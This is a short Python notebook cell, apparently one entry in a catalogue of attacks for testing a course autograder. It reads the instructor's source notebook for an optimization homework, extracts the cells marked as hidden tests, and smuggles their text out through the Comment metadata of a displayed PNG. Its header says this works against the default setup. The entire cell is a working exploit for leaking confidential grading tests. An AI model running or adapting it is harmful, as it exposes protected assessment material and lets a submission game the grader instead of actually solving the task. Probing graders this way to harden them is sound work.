# Tries: Hidden tests are hidden in a picture: a displayed PNG carries them as a comment.
# Shows: lines of hidden tests in the bytes of a PNG output
# Wins against: stock
# Uses: class_folder
# %% added: q1_minimum
import io
import json


cells = json.loads((course() / "source/hw1_optimization/beale_adam.ipynb").read_text())["cells"]
text = "\n".join("".join(c["source"]) for c in cells if "HIDDEN TESTS" in "".join(c["source"]))
from IPython.display import Image

picture = io.BytesIO()
plt.figure(figsize=(1, 1))
plt.savefig(picture, format="png", metadata={"Comment": text.encode("ascii", "replace").decode()})
plt.close("all")
display(Image(picture.getvalue()))
